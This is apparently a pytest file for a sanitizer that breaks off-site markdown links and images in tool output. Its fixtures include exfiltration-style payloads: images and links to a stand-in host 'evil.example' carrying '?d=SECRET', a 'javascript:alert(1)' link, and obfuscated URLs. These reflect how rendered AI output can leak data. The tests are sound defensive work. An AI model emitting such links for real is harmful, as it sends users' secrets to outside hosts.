"""Links and images that leave stop being links and images; their text stays."""

import pytest

from toolcage.cleaning.markdown import part_links

LEAVING = {
    "image": ("![chart](https://evil.example/?d=SECRET)", "![chart] (https://evil.example/?d=SECRET)"),
    "link": ("[help](https://evil.example/?d=SECRET)", "[help] (https://evil.example/?d=SECRET)"),
    "nested": ("[![a](https://e/1)](https://e/2)", "[![a] (https://e/1)] (https://e/2)"),
    "brackets in the text": ("![a[b]c](http://e)", "![a[b]c] (http://e)"),
    "spaces": ("![a]( \n http://e)", "![a] ( \n http://e)"),
    "pointed": ("![a](<http://e/ x>)", "![a] (<http://e/ x>)"),
    "title": ('![a](http://e "t")', '![a] (http://e "t")'),
    "protocol-relative": ("![a](//evil.example/x)", "![a] (//evil.example/x)"),
    "backslashes": ("![a](/\\evil.example)", "![a] (/\\evil.example)"),
    "backslash before a scheme": ("![a](\\https://e)", "![a] (\\https://e)"),
    "data": ("![a](data:image/svg+xml;base64,PHN2Zz4=)", "![a] (data:image/svg+xml;base64,PHN2Zz4=)"),
    "script": ("[a](javascript:alert(1))", "[a] (javascript:alert(1))"),
    "entity": ("![a](&#104;ttps://e)", "![a] (&#104;ttps://e)"),
    "entity inside": ("![a](https&colon;//e)", "![a] (https&colon;//e)"),
    "escaped colon": ("![a](https\\://e)", "![a] (https\\://e)"),
    "reference": ("![a][r]\n\n[r]: https://e/?d=S", "![a][r]\n\n[r] : https://e/?d=S"),
    "reference on the next line": ("[a][r]\n\n[r]:\n  https://e", "[a][r]\n\n[r] :\n  https://e"),
    "reference in a quote": ("> [r]: <https://e>", "> [r] : &lt;https://e>"),
    "autolink": ("<https://evil.example/?d=S>", "&lt;https://evil.example/?d=S>"),
    "mail autolink": ("<mailto:x@evil.example>", "&lt;mailto:x@evil.example>"),
    "unfinished": ("![a](", "![a] ("),
    "reference in a list": ("- 1. [r]: https://e", "- 1. [r] : https://e"),
    "reference whose label began before": ("[a\nb]: https://e", "[a\nb] : https://e"),
    "reference with brackets in its label": ("[a b[0]: https://e", "[a b[0] : https://e"),
}


@pytest.mark.parametrize(("text", "parted"), LEAVING.values(), ids=LEAVING.keys())
def test_a_link_that_leaves_is_parted_and_readable(text: str, parted: str) -> None:
    made, count = part_links(text)
    assert (made.replace("(<", "(&lt;"), count > 0) == (parted.replace("(<", "(&lt;"), True)
    assert part_links(made) == (made, 0)


@pytest.mark.parametrize(
    "text",
    [
        "[page](other.md)", "[section](#top)", "[up](../a/b.html)", "handlers[name](argument)", "f[i](x, y)",
        "see https://example.com/?q=1 for more", "{'a': [1, 2]}", "matrix[0]: int", "[ ] task", "a[1:2]", "[::1]:8080",
        "if a[0]:", "for x in [1, 2]:\n    try:\n        pass", "x = a[0][1]:", "while seen[key]:\n    print: done",
        "lambda f, a=d['k']: a",
    ],
)  # fmt: skip
def test_relative_links_code_and_bare_addresses_stay(text: str) -> None:
    assert part_links(text) == (text, 0)


def test_many_brackets_in_one_line_are_parted_in_linear_time() -> None:
    made, count = part_links("[x]: h:" * 20_000)
    assert made.count("] :") == count == 20_000
    assert part_links("a " + "[x]:\nh:" * 20_000)[1] == 0
